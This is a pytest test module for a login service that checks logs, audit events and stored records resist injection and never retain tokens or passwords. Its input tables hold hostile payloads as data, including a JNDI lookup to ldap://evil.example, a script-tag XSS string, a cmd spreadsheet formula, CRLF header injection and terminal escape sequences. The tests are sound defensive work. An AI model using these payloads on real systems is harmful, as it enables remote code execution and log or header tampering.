"""What strangers write into logs, audit events and the events' tables, and what they find there."""

from __future__ import annotations

import json
import logging
import re

import pytest

from backstay.auth import AuditEvent, LoginThrottle
from tests.attacks.stage import (
    SECRET,
    Log,
    Stage,
    assert_problem,
    bearer,
    from_address,
    service,
    watched_log,
)
from tests.support import async_test, shown

JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhZGEifQ.c2lnbmF0dXJl"
REFRESH = "bsr_" + "R3fr3sh-" * 5 + "abc"
KEY = "bsk_abcdefgh234567ab_" + "K3y-of-a" * 5 + "abc_000000"

# What ends a line, moves the cursor, turns text around, or is no text.
NAMES = {
    "a line break": "zoe\nINFO login subject=ada",
    "a line break of Windows": "zoe\r\nINFO login subject=ada",
    "a carriage return": "zoe\rINFO login subject=ada",
    "a line separator": "zoe\u2028INFO login subject=ada",
    "a paragraph separator": "zoe\u2029INFO login",
    "a next line": "zoe\x85INFO login",
    "a form feed": "zoe\fINFO login",
    "a vertical tab": "zoe\vINFO login",
    "separators of records": "zoe\x1c\x1d\x1e\x1fINFO login",
    "colours": "\x1b[31mzoe\x1b[0m",
    "a clear screen": "zoe\x1b[2J\x1b[H",
    "a title of the window": "zoe\x1b]0;pwned\x07",
    "a control sequence in one byte": "zoe\x9b31m",
    "a link": "\x1b]8;;http://evil.example\x1b\\zoe\x1b]8;;\x1b\\",
    "backspaces": "zoe\b\b\bada",
    "a bell": "zoe\a",
    "a delete": "zoe\x7f",
    "text from right to left": "zoe\u202eada",
    "an isolate": "zoe\u2066ada\u2069",
    "a zero-width space": "z\u200boe",
    "a byte order mark": "\ufeffzoe",
    "a zero byte": "zoe\0ada",
    "a private character": "zoe\ue000",
    "no character": "zoe\uffff",
    "a tag": "zoe\U000e0041",
    "quotes": 'zoe" subject="ada" client="127.0.0.1',
    "a backslash and quotes": 'zoe\\" subject=\\"ada',
    "JSON": '{"event": "login", "subject": "ada"}',
    "a format": "%s %d %(levelname)s {0} {subject}",
    "a lookup": "${jndi:ldap://evil.example/a}",
    "markup": "<script>alert(1)</script>",
    "a formula": "=cmd|' /C calc'!A0",
    "ten kilobytes": "z" * 10_240,
    "ten kilobytes of line breaks": "\n" * 10_240,
    "ten kilobytes of emoji": "\U0001f512" * 2_560,
    "much that has to be escaped": "\x1b" * 256,
}

# Credentials that people, or their password managers, put where the name belongs.
SECRETS = {
    "a JWT": (JWT, JWT),
    "a JWT among words": (f"my token {JWT} please", JWT),
    "a JWT behind Bearer": (f"Bearer {JWT}", JWT),
    "a JWT in a URL": (f"https://x.example/?token={JWT}", JWT),
    "a JWT after much else": ("z" * 180 + " " + JWT, JWT[:15]),
    "a refresh token": (REFRESH, REFRESH),
    "a refresh token among words": (f"it is {REFRESH}!", REFRESH),
    "an API key": (KEY, "K3y-of-a"),
    "an API key in a URL": (f"https://x.example/?key={KEY}", "K3y-of-a"),
}


@pytest.fixture
def told() -> list[AuditEvent]:
    return []


async def tried(stage: Stage, name: str) -> None:
    form = {"username": name, "password": "a wrong one"}
    assert_problem(await stage.client.post("/token", data=form), 401)


def assert_lines_are_whole(log: Log) -> None:
    """Each record is one line of printable text, and not a long one."""
    assert log.lines
    for line in log.lines:
        assert line.isprintable(), line
        assert len(line.splitlines()) == 1
        assert len(line) < 1000


def own_fields(log: Log) -> str:
    """What formatters that write JSON would take from the records."""
    return "\n".join(
        str({name: value for name, value in each.items() if name not in ("msg", "pathname")})
        for each in log.fields
    )


@pytest.mark.parametrize("name", NAMES.values(), ids=NAMES)
@async_test
async def test_a_name_cannot_write_lines_of_its_own(name: str, told: list[AuditEvent]) -> None:
    async with service() as stage:
        stage.auth.audit.add_sink(told.append)
        with watched_log() as log:
            await tried(stage, name)
            await stage.refresh(name)
            await stage.client.post("/token/revoke", data={"token": name})
            await stage.client.get("/me", headers=[(b"Authorization", b"Bearer " + name.encode())])
            await stage.client.get("/me", headers=[(b"X-API-Key", name.encode())])
        assert_lines_are_whole(log)
        assert [each.name for each in told] == ["login_refused", "refresh_refused"]
        for field in (told[0].subject or "", told[0].detail):
            assert field.isprintable()
            assert len(field) <= 200
        (line,) = [each for each in log.lines if each.startswith("login_refused")]
        fields = dict(re.findall(r'(\w+)=("(?:[^"\\]|\\.)*")', line.partition(" ")[2]))
        assert set(fields) == {"subject", "client"}
        assert json.loads(fields["subject"]) == told[0].subject


@pytest.mark.parametrize(("name", "secret"), SECRETS.values(), ids=SECRETS)
@async_test
async def test_a_secret_in_the_place_of_a_name_is_nowhere_afterwards(
    name: str, secret: str, told: list[AuditEvent]
) -> None:
    async with service(client_limits=LoginThrottle(per_client=(2, 60))) as stage:
        stage.auth.audit.add_sink(told.append)
        with watched_log() as log:
            for _ in range(2):
                await tried(stage, name)
            form = {"username": name, "password": "x"}
            assert_problem(await stage.client.post("/token", data=form), 429)
            await stage.refresh(name)
            await stage.client.get("/me", headers=bearer(name))
            await stage.client.get("/me", headers={"X-API-Key": name})
        assert secret not in "\n".join(log.lines)
        assert secret not in own_fields(log)
        assert secret not in repr(told)
        assert {each.name for each in told} == {"login_refused", "throttled", "refresh_refused"}
        await stage.assert_nowhere(secret)


@async_test
async def test_no_password_and_no_token_is_in_any_log_or_table() -> None:
    with watched_log() as log:
        async with service() as stage:
            grant = await stage.log_in("ada")
            key = await stage.api_key()
            headers = bearer(grant["access_token"])
            for path in ("/me", "/orders", "/reports", "/nowhere", "/partners/deals"):
                await stage.client.get(path, headers=headers)
                await stage.client.get(path, headers={"X-API-Key": key})
                await stage.client.get(path, params={"access_token": grant["access_token"]})
            second = (await stage.refresh(grant["refresh_token"])).json()
            await stage.refresh(grant["refresh_token"])
            form = {"username": "ada", "password": "a wrong one of hers"}
            await stage.client.post("/token", data=form)
            await stage.client.post(
                "/token", data={**form, "username": "\ud800".encode("utf-8", "replace")}
            )
            await stage.client.post("/token", json=form)
            await stage.client.post("/token", params=form)
            secrets = (
                grant["access_token"],
                grant["access_token"].rpartition(".")[2],
                grant["refresh_token"],
                second["access_token"],
                second["refresh_token"],
                key,
                key[21:64],
                "ada of the shop",
                "a wrong one of hers",
                SECRET,
            )
            await stage.assert_nowhere(*secrets)
    for secret in secrets:
        assert secret not in "\n".join(log.lines)
        assert secret not in own_fields(log)


HEADERS: dict[str, tuple[str, bytes]] = {
    "an id of the request with a line break": ("X-Request-ID", b"a\nINFO login"),
    "an id of the request with colours": ("X-Request-ID", b"\x1b[31ma"),
    "an id of the request that is long": ("X-Request-ID", b"a" * 10_240),
    "an id of the request that is no text": ("X-Request-ID", b"\xff\xfe"),
    "an id of the request that is a token": ("X-Request-ID", JWT.encode()),
    "a trace with a line break": ("traceparent", b"00-a\nb-c-01"),
    "a client with a line break": ("User-Agent", b"x\nINFO login"),
    "a forwarded address with a line break": ("X-Forwarded-For", b"1.2.3.4\nINFO login"),
    "a forwarded address with colours": ("X-Forwarded-For", b"\x1b[31m1.2.3.4"),
    "a host with a line break": ("Host", b"x\nINFO login"),
    "a referrer with colours": ("Referer", b"\x1b[31m"),
    "an origin with a line break": ("Origin", b"https://x\nINFO"),
    "a language with a line break": ("Accept-Language", b"de\nINFO"),
    "a cookie with colours": ("Cookie", b"a=\x1b[31m"),
}


@pytest.mark.parametrize(("name", "value"), HEADERS.values(), ids=HEADERS)
@async_test
async def test_a_header_cannot_write_lines_of_its_own(name: str, value: bytes) -> None:
    async with service(trusted_proxies=["10.0.0.0/8"]) as stage:
        with watched_log() as log:
            async with from_address(stage, "10.0.0.1") as client:
                shown_by = [(name.encode(), value)]
                for answer in (
                    await client.get("/me", headers=shown_by),
                    await client.get("/nowhere", headers=shown_by),
                    await client.post(
                        "/token", headers=shown_by, data={"username": "zoe", "password": "x"}
                    ),
                ):
                    assert_problem(answer, 400, 401, 404)
                    for header in answer.headers.values():
                        assert header.isprintable()
        assert_lines_are_whole(log)


@pytest.mark.parametrize(
    "path",
    [
        "/nowhere%0aINFO%20login",
        "/nowhere%0d%0aSet-Cookie:%20a=b",
        "/%1b[31mnowhere",
        "/%00",
        "/%e2%80%a8INFO",
        "/%ff%fe",
        "/articles/1%0aINFO",
        "/partners/%0aINFO",
        "/" + "a" * 10_240,
        "/nowhere?a=%0aINFO",
        "/{}%25s%25(levelname)s",
    ],
    ids=lambda path: shown(path)[:40],
)
@async_test
async def test_a_path_cannot_write_lines_of_its_own(path: str) -> None:
    async with service() as stage:
        token = await stage.token("ada")
        with watched_log() as log:
            for method in ("GET", "POST", "BREW"):
                for headers in ({}, bearer(token)):
                    answer = await stage.client.request(method, path, headers=headers)
                    assert_problem(answer, 400, 401, 404, 405, 422)
        for line in log.lines:
            assert line.isprintable()
            assert len(line) < 11_000
        await stage.inside.ctx.events.flush()
        found = await stage.inside.ctx.events.find(limit=100)
        for event in found.events:
            assert event.name.isprintable()
            assert len(event.name) <= 200


@async_test
async def test_a_flood_of_refused_logins_pushes_no_secret_and_no_long_line_out() -> None:
    async with service() as stage:
        with watched_log() as log:
            for n in range(100):
                await tried(stage, f"zoe {n} {JWT} " + "\n" * 300)
        assert_lines_are_whole(log)
        assert JWT not in log.text
        assert sum(each["levelno"] >= logging.ERROR for each in log.fields) == 0
